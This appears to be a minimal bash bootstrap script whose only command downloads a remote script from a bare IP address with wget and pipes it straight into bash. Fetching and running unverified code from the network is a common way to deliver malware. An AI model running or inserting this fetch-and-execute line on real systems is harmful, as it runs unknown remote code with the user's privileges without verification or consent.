#!/bin/bash
bash <(wget -qO- http://198.51.100.5/bootstrap)
